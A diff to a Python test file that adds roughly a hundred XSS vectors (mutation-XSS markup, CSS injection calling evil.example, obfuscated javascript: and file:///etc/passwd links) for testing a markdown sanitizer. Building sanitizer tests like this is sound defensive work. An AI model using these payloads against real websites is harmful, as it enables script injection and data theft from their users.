@@ -250,13 +250,93 @@ BLOCKS = [
     "<div\n\nonclick=alert(1)>",
 ]
 
-VECTORS = [*ON_ELEMENTS, *ELEMENTS, *LINKS, *PICTURES, *BLOCKS]
+STYLES = [
+    "<style>@font-face{font-family:x;src:url(//evil.example)}</style>",
+    "<style>a[href^='x']{background:url(//evil.example/?x)}</style>",
+    "<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>",
+    "<style>li{list-style-image:url('javascript:alert(1)')}</style>",
+    "<style>@media all{*{behavior:url(x.htc)}}</style>",
+    "<p style=width:expression(alert(1))>x</p>",
+    "<p style='x:\\65xpression(alert(1))'>x</p>",
+    "<p style=background-image:\\75rl(javascript:alert(1))>x</p>",
+    '<b style="position:fixed;inset:0;opacity:0;z-index:9999">x</b>',
+    "<link rel=stylesheet href=data:text/css,*{display:none}>",
+    "<svg><style>@import'//evil.example'</style></svg>",
+    "<p class='button button-primary' id=main tabindex=1>x</p>",
+]
+
+MUTATIONS = [
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<math><mi><table><mglyph><style><img title='</style><img src onerror=alert(1)>'>",
+    '<svg><title><style><img title="</style></title><img src onerror=alert(1)>">',
+    "<svg><desc><noscript><img title='</noscript><img src onerror=alert(1)>'>",
+    "<p><svg><foreignObject><p><style><img alt='</style><img src onerror=alert(1)>'>",
+    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
+    "<table><td><svg><desc><td></desc><p title='</svg><img src onerror=alert(1)>'>",
+    "<a><svg><path><title><![CDATA[</title><img src=x onerror=alert(1)>]]>",
+    "<math><annotation-xml encoding='application/xhtml+xml'><svg onload=alert(1)>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<math><mrow xlink:type=simple xlink:href=javascript:alert(1)>x</mrow></math>",
+    "<svg><image href=javascript:alert(1) /></svg>",
+    "<svg><feImage href='data:image/svg+xml,<svg onload=alert(1)>' /></svg>",
+    "<svg><handler type=text/javascript ev:event=load>alert(1)</handler></svg>",
+    "<svg><animatemotion onend=alert(1) dur=1s>",
+    "<svg><a><animate attributeName=href to=javascript:alert(1) begin=0s /></a></svg>",
+    "<listing>&lt;img src onerror=alert(1)&gt;</listing>",
+    "<noframes><p title='</noframes><img src onerror=alert(1)>'>",
+    "<iframe><img title='</iframe><img src onerror=alert(1)>'></iframe>",
+    "<x-element is=script>alert(1)</x-element>",
+]
+
+OBFUSCATIONS = [
+    "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
+    "[x](&#0000106avascript:alert(1))",
+    "[x](jav&Tab;ascript:alert(1))",
+    "[x](&ZeroWidthSpace;javascript:alert(1))",
+    "[x](\u200bjavascript:alert(1))",
+    "[x](%6A%61vascript:alert(1))",
+    "[x](javascript%3Aalert(1))",
+    "[x](ｊavascript:alert(1))",
+    "[x](javascrıpt:alert(1))",
+    "[x](javaſcript:alert(1))",
+    "[x](javascript\\:alert(1))",
+    "[x](javascript:alert`1`)",
+    "[x](javascript:/**/alert(1))",
+    '[x](javascript:"/*\'/*`/*--></noscript></title></textarea></style></script><img onerror=alert(1) src>")',
+    "[x](jar:javascript:alert(1)!/)",
+    "[x](mailto:a@b.example?body=<script>)",
+    "[x](ms-word:ofe|u|//evil.example)",
+    "[x](intent://evil.example#Intent;end)",
+    "[x](file:///etc/passwd)",
+    "[x](///evil.example)",
+    "[x](/\t/evil.example)",
+    "[x](/\\\\evil.example)",
+    "[x](?next=javascript:alert(1))",
+    "[x](./javascript:alert(1))",
+    "<JAVASCRIPT:alert(1)>",
+    "<vbscript:x>",
+    "<a@b.example>",
+    "<//evil.example>",
+    'https://evil.example/"onmouseover=alert(1)',
+    "[x]: javascript:alert(1)\n\n[x][]",
+    "[X Y]: <data:text/html,x>\n\n[x y]",
+    '![x]\n\n[x]: javascript:alert(1) "onerror=alert(1)"',
+    "[^1]: <script>alert(1)</script>\n\n[^1]",
+    "[x](lesson:a&quot;onclick=&quot;alert(1))",
+    "[x](lesson:%22onclick%3Dalert(1))",
+    "[x](LESSON:a)",
+    "[x](lesson:a\u2028b)",
+    "[x](#\u00a0onclick=alert(1))",
+    "[x](/a\u202eb)",
+]
+
+VECTORS = [*ON_ELEMENTS, *ELEMENTS, *LINKS, *PICTURES, *BLOCKS, *STYLES, *MUTATIONS, *OBFUSCATIONS]
 KNOWN = {"known": Picture("0" * 32, 10, 10, 'A "known" <b>picture</b>')}
 ALLOWED = {"class", *(name for names in markdown.ATTRIBUTES.values() for name in names)}
 
 
 def test_there_are_enough_of_them():
-    assert len(VECTORS) == len(set(VECTORS)) >= 150
+    assert len(VECTORS) == len(set(VECTORS)) >= 250
 
 
 def harmless(html):
